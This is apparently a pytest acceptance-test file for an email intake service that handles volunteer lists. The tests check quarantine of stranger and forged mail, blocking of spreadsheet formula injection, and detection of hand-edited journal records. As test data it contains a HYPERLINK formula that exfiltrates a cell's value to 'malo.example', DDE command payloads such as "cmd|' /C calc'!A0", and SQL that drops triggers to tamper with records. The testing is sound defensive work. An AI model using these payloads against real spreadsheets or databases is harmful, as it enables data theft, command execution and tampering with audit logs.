"""Who may not, and what may not: strangers, forgers, formulas, hands in the books (AC-02, 03, 24, 77, 78)."""

import sqlite3
from dataclasses import replace
from datetime import timedelta
from io import BytesIO

import openpyxl
import pytest
from sqlmodel import update

from procedures import catalogue
from service.demo.cast import CONFIRMATION
from service.demo.correspondent import Attachment
from storage import definitions
from storage.entries import EntryState
from storage.lists import ListState
from storage.provider import ReleaserRow
from tests.acceptance.scene import BEGINS, DESK, PROCEDURE, at_work, cells_of, edited, saved
from tests.people import (
    ADMIN,
    CACYPCS,
    CFI,
    CPEEYPB,
    EMS_R03,
    PAC012,
    PERIOD,
    PS_ADDRESS,
    SAC_R01,
    SAC_R03,
    STRANGER,
    volunteers_of,
)

TAG = f"[0780][{PERIOD}][A08][{PAC012.unit}]"
FORMULA = '=HYPERLINK("http://malo.example/?x="&F3,"Ver")'


def names_nobody(letter):
    """Whether a letter has no volunteer's name, no file and no key of a locality."""
    people = volunteers_of(PAC012.unit)
    said = letter.words
    return letter.attachments == {} and not [one for one in people if one.name in said or one.clave in said]


# ------------------------------------------------------------------ AC-02, AC-03


async def test_ac_02_a_stranger_gets_no_answer_and_the_watchers_hear_of_it(asked_anywhere):
    asked = asked_anywhere
    workbook = asked[PAC012].filled()
    watchers = [asked[who] for who in (ADMIN, SAC_R03, EMS_R03)]
    for watcher in watchers:
        watcher.news()
    before = asked.standing()

    answers = await asked[STRANGER].writes(
        f"{TAG} Listado", CONFIRMATION, files=[Attachment(name="Listado.xlsx", content=workbook)]
    )

    assert answers == []
    entry = asked.last_entry()
    assert (entry.state, entry.reason) == (EntryState.QUARANTINED, "V-001: remitente desconocido")
    assert asked.kept_files(entry) == [workbook]
    assert asked.standing() == before
    assert asked.versions(PAC012.unit) == []
    for watcher in watchers:
        [alarm] = watcher.news()
        assert alarm.template == "M-43"
        assert entry.folio in alarm.text
        assert entry.blob_sha256 in alarm.text.replace(" ", "")
        assert names_nobody(alarm)
    assert [line.entry_id for line in asked.noted("entry_quarantined")] == [entry.id]
    assert STRANGER not in {row.address for row in asked.letters()}


async def test_ac_02_a_stranger_who_names_no_unit_is_known_to_the_administration_only(asked):
    asked[ADMIN].news()

    answers = await asked[STRANGER].writes("Listado de voluntarios", "Hola, adjunto mi listado.")

    assert answers == []
    [alarm] = asked[ADMIN].news()
    assert alarm.template == "M-43"
    assert {row.address for row in asked.letters() if row.template == "M-43"} == {ADMIN.email}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("ENTERADO", id="acknowledgement"),
        pytest.param("Buen día, ¿me pueden decir quiénes son las personas voluntarias?", id="question"),
        pytest.param("APRUEBO 123456", id="code"),
    ],
)
async def test_ac_02_nothing_that_a_stranger_writes_is_answered(asked, text):
    before = asked.standing()

    answers = await asked[STRANGER].writes(f"{TAG} Re: Solicitud", text)

    assert answers == []
    assert asked.last_entry().state is EntryState.QUARANTINED
    assert asked.standing() == before


async def test_ac_03_a_forged_mail_is_quarantined_and_the_real_holder_is_told_without_its_content(asked):
    pac = asked[PAC012]
    forger = replace(pac.correspondent, logs_in=False)
    before = asked.standing()
    pac.news()

    await forger.send(
        DESK,
        f"{TAG} Listado urgente",
        CONFIRMATION,
        attachments=[Attachment(name="Listado falso.xlsx", content=pac.filled())],
    )
    await asked.settle()

    entry = asked.last_entry()
    assert entry.state is EntryState.QUARANTINED
    assert entry.reason.startswith("V-002")
    [told] = pac.news()
    assert told.template == "SPOOFED"
    assert "Llegó un correo a su nombre que no pudimos autenticar" in told.html
    assert "urgente" not in told.words
    assert "falso" not in told.words
    assert told.message["In-Reply-To"] is None
    assert names_nobody(told)
    assert asked.standing() == before
    assert asked.versions(PAC012.unit) == []
    assert [letter.template for letter in asked[SAC_R03].news()][-1:] == ["M-43"]


async def test_ac_03_a_forged_code_does_nothing_and_stays_good_for_its_owner(delivered):
    sac = delivered[SAC_R01]
    question = sac.asked("A10")
    forger = replace(sac.correspondent, logs_in=False)

    await forger.reply(question.original, f"APRUEBO {question.code}")
    await delivered.settle()
    forged = "A10" in delivered.done(SAC_R01.unit)
    await sac.answers(question, f"APRUEBO {question.code}")

    assert not forged
    assert "A10" in delivered.done(SAC_R01.unit)


# ------------------------------------------------------------------ AC-24


def with_formula(workbook):
    return edited(workbook, {"G3": FORMULA})


def with_formula_as_text(workbook):
    book = openpyxl.load_workbook(BytesIO(workbook))
    cell = book["Listado"]["G3"]
    cell.value = FORMULA
    cell.data_type = "s"
    return saved(book)


@pytest.mark.parametrize(
    "inject",
    [pytest.param(with_formula, id="ac_24_formula"), pytest.param(with_formula_as_text, id="ac_24_text")],
)
async def test_ac_24_a_formula_in_a_name_is_refused_and_never_written_again_as_one(asked, inject):
    pac = asked[PAC012]

    [answer] = await pac.sends_list(inject(pac.filled()))

    assert "Fila 3: contenido no permitido." in answer.text
    [version] = asked.versions(PAC012.unit)
    assert (version.state, version.rejected) == (ListState.PARTIAL, 1)
    assert not [line for line in asked.lines(PAC012.unit) if "HYPERLINK" in line.name]
    returned = openpyxl.load_workbook(BytesIO(answer.workbook))["Listado"]
    formulas = [cell.coordinate for row in returned.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    assert "malo.example" not in answer.html
    assert returned["G3"].hyperlink is None


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
async def test_ac_24_no_remark_leaves_the_desk_as_a_formula(asked, sign):
    pac = asked[PAC012]
    remark = f"{sign}cmd|' /C calc'!A0"

    [answer] = await pac.sends_list(edited(pac.filled(), {"O4": remark, "I5": 1}))

    book = openpyxl.load_workbook(BytesIO(answer.workbook))["Listado"]
    assert [cell.coordinate for row in book.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert len(cells_of(answer.workbook)) == 5


# ------------------------------------------------------------------ AC-77


HANDS = {
    "a line edited": "UPDATE journal SET text = 'Paso A08: nunca' WHERE kind = 'list_accepted'",
    "a line deleted": "DELETE FROM journal WHERE kind = 'list_accepted'",
    "a list's sum": "UPDATE list_version SET total_centavos = 1, digest = 'x' WHERE level = 'LVP'",
    "an entry's original": "UPDATE entry SET blob_sha256 = (SELECT blob_sha256 FROM entry LIMIT 1)",
}


@pytest.mark.parametrize("hand", HANDS)
async def test_ac_77_whoever_edits_the_books_by_hand_is_found_and_cacypcs_hears_of_it(asked, command, hand):
    await asked[PAC012].sends_list(asked[PAC012].filled())
    await asked.service.ticker.tick()
    asked[CACYPCS].news()
    untouched, _ = command("verify", "--data", asked.folder)

    edit_by_hand(asked.folder, HANDS[hand])
    status, said = command("verify", "--data", asked.folder)
    await asked.leap_to("2027-01-06", "08:00")

    assert untouched == 0
    assert status == 1
    assert "✘" in said
    [alarm] = [letter for letter in asked[CACYPCS].news() if letter.template == "M-48"]
    assert "La verificación de la bitácora encontró" in alarm.text


def edit_by_hand(folder, statement):
    """Do what an administrator can: open the file and write, whatever the triggers say."""
    books = sqlite3.connect(folder / "oficialia.db")
    for (trigger,) in books.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        books.execute(f'DROP TRIGGER "{trigger}"')
    books.execute(statement)
    books.commit()
    books.close()


# ------------------------------------------------------------------ AC-78


async def test_ac_78_only_cacypcs_puts_a_version_of_the_procedure_in_force(offices, tmp_path, command):
    folder = tmp_path / "datos"
    offices.copy("set-up", folder)
    changed = tmp_path / "0780 v2.yaml"
    changed.write_text(catalogue.read_builtin(PROCEDURE).replace("version: 1", "version: 2", 1))

    status, said = command(
        "procedure", "activate", PROCEDURE, "--as", CFI.key, "--file", changed, "--data", folder
    )

    assert status != 0
    assert "Sólo la CACyPCS puede modificar o interpretar el procedimiento (5.1.4)." in said
    async with at_work(folder, BEGINS) as scene:
        with scene.books() as session:
            assert definitions.in_force(session, PROCEDURE).version == 1
        [denied] = scene.noted("procedure_activation_denied")
        assert denied.role == "CFI"


async def test_ac_78_a_running_expediente_keeps_the_version_that_it_began_with(asked, tmp_path, command):
    changed = tmp_path / "0780 v2.yaml"
    changed.write_text(catalogue.read_builtin(PROCEDURE).replace("version: 1", "version: 2", 1))

    command(
        "procedure", "activate", PROCEDURE, "--as", CACYPCS.key, "--file", changed, "--data", asked.folder
    )

    with asked.books() as session:
        assert definitions.in_force(session, PROCEDURE).version == 2
    assert asked.case().version == 1


# ------------------------------------------------------------------ AC-35


async def test_ac_35_whoever_is_not_announced_to_the_provider_sends_it_nothing(authorised):
    central, provider = authorised[CPEEYPB], authorised[PS_ADDRESS]
    await authorised[CACYPCS].does("A26")
    await central.does("A27")
    with authorised.service.store.transaction() as session:
        session.exec(update(ReleaserRow).values(to_on=authorised.today - timedelta(days=1)))
    authorised[CACYPCS].news()
    before = authorised.standing()

    [answer, *_asked_again] = await central.does("A28")

    assert "no consta en la relación de personal autorizado" in answer.text
    assert authorised.standing() == before
    assert provider.received == []
    [alarm] = authorised[CACYPCS].news()
    assert alarm.template == "M-48"
    assert "Se negó el paso A28" in alarm.text
    assert [line.role for line in authorised.noted("step_refused") if line.step == "A28"] == ["CPEEyPB"]
